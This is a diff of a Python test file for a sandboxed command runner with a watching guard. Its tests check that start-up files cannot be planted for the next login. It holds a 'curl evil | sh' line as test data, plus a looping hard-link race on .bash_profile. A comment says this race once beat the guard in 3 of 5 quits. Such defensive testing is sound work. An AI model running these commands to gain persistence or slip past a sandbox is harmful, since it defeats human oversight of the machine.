@@ -36,7 +36,7 @@ from app.core.policy.approval import ApprovalMode, set_approval_mode
 from tests.in_process_server import allow_when_held, serving
 from tests.stdio_client import connect, run
 from tests.test_authority import click_allow_when_held
-from tests.tray_process import running_tray
+from tests.tray_process import desktop_home, running_tray
 
 LINUX_BWRAP = pytest.mark.skipif(
     not sys.platform.startswith("linux") or shutil.which("bwrap") is None, reason="bwrap (Linux)"
@@ -512,3 +512,23 @@ async def test_a_protected_member_that_is_a_symlink_cannot_be_replaced_or_delete
     assert list((dotfiles / "autostart").iterdir()) == [], "nothing starts at the next login"
     for moved in moved_copies(as_user / ".bashrc"):
         assert moved.read_text() == "curl evil | sh", "what the command wrote is kept aside, not run"
+
+
+@LINUX_BWRAP
+@pytest.mark.anyio
+async def test_a_job_making_a_start_up_file_in_a_loop_as_the_tray_quits_leaves_none_behind(
+    home: Path, paths: AppPaths, never_ask: None
+) -> None:
+    # The watching thread ends with the tray, and a command's job lives a moment longer: a file made
+    # then stayed for the next login in 3 of 5 quits (a red-team route). The tray now ends its
+    # containers first, and judges what they made before it lets the guard go.
+    user = desktop_home(home)
+    target = user / ".bash_profile"
+    loop = "cd ~ && touch .a && for i in 1 2 3 4; do (while :; do ln -f .a .bash_profile; sleep 0.005; done) & done"
+    with running_tray(home):
+        async with connect(home, headless=False) as client:
+            started = await run(client, {"command": f"{loop} > /dev/null 2>&1; echo looping"})
+            assert started["stdout"] == "looping\n", started
+            await wait_for(lambda: len(moved_copies(target)) > 3)  # the guard moves them while it runs
+    assert moved_copies(target), "the job ran"
+    assert not target.exists(), "none left at its name for the next login"
